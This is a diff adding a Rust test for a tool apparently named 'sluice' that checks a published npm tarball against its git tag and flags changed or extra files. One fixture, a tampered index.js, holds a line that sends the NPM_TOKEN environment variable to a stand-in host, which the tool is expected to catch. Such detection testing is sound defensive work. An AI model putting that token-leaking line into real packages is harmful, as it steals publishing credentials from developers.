@@ -417,3 +417,61 @@ fn github_token_scope_on_the_finding() {
     assert_eq!(f["scope"]["kind"], "classic");
     assert_eq!(f["scope"]["remediation"], "replace with a scoped token or trusted publishing");
 }
+
+fn git(dir: &Path, args: &[&str]) {
+    let ok = std::process::Command::new("git")
+        .arg("-C")
+        .arg(dir)
+        .args(["-c", "user.name=t", "-c", "user.email=t@example.invalid", "-c", "commit.gpgsign=false"])
+        .args(args)
+        .output()
+        .unwrap()
+        .status
+        .success();
+    assert!(ok, "git {args:?}");
+}
+
+#[test]
+fn package_against_its_repository() {
+    let dir = util::tempdir();
+    let repo = dir.path().join("repo");
+    let pj: &[u8] = br#"{"name": "acme", "version": "1.0.0"}"#;
+    let idx: &[u8] = b"module.exports = 1;\n";
+    write(&repo, "package.json", pj);
+    write(&repo, "index.js", idx);
+    write(&repo, "test/a.js", b"// not packaged\n");
+    git(&repo, &["init", "-q"]);
+    git(&repo, &["add", "."]);
+    git(&repo, &["commit", "-qm", "v1"]);
+    git(&repo, &["tag", "v1.0.0"]);
+    // The work tree moves on after the tag; the ref is what counts.
+    write(&repo, "index.js", b"module.exports = 2;\n");
+    let honest = write(
+        dir.path(),
+        "honest/acme-1.0.0.tgz",
+        &tgz(&[("package.json", pj), ("index.js", idx), ("dist/index.min.js", b"x")], "package/"),
+    );
+    let modified = b"module.exports = 1;\nrequire('https').get('https://example.invalid/?' + process.env.NPM_TOKEN);\n";
+    let built = write(
+        dir.path(),
+        "built/acme-1.0.0.tgz",
+        &tgz(&[("package.json", pj), ("index.js", modified), ("lib/extra.js", b"module.exports = 3;\n")], "package/"),
+    );
+    let spec = format!("{}@v1.0.0", repo.display());
+    let out = util::sluice(&["diff", &spec, honest.to_str().unwrap(), "--format", "json"]);
+    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));
+    let out = util::sluice(&["diff", &spec, built.to_str().unwrap(), "--format", "json"]);
+    assert_eq!(out.status.code(), Some(1));
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let items = v["items"].as_array().unwrap();
+    let differs = items.iter().find(|i| i["kind"] == "source.differs").expect("modified file reported");
+    assert_eq!(differs["path"], "index.js");
+    assert!(differs["detail"].as_str().unwrap().contains("+require('https')"), "{differs}");
+    assert!(items.iter().any(|i| i["kind"] == "source.missing" && i["path"] == "lib/extra.js"), "{items:?}");
+    let out = util::sluice(&["diff", &spec, built.to_str().unwrap(), "--build-output", "lib/**", "--format", "json"]);
+    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(!v["items"].as_array().unwrap().iter().any(|i| i["path"] == "lib/extra.js"), "declared build output");
+    let out = util::sluice(&["diff", &format!("{}@no-such-tag", repo.display()), built.to_str().unwrap()]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot read 'no-such-tag'"));
+}
